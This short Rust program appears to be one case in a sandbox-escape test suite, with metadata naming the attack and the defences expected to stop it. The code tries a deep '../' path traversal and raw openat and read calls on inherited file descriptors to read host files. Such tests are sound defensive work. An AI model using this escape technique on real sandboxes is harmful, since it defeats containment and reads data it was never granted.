//! attack = "climb to the host's root from the working directory, and from each descriptor that is a folder"
//! kind = "leak"
//! gets = ["exited 0"]
//! held_by = ["root of its own", "no inherited descriptors"]

use foe::{Briefing, at, call, show, text};

pub fn main() {
    let briefing = Briefing::read();
    let up = "../".repeat(40);
    for path in briefing.all("file") {
        show(format!("{up}{}", path.trim_start_matches('/')));
    }
    for descriptor in 3..64 {
        for path in briefing.all("file") {
            let path = text(&format!("{up}{}", path.trim_start_matches('/')));
            if let Ok(file) = call(257, &[descriptor, at(path.as_c_str()), 0]) {
                let read = vec![0u8; 4096];
                let length = call(0, &[file, at(&read[..]), 4096]).unwrap_or(0);
                println!("{}", String::from_utf8_lossy(&read[..length as usize]));
            }
        }
    }
}
